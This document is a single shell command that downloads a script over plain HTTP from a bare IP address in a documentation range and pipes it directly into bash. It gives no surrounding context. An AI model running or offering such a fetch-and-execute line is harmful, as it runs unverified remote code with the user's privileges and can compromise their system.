curl -fsSL http://198.51.100.7/install | bash
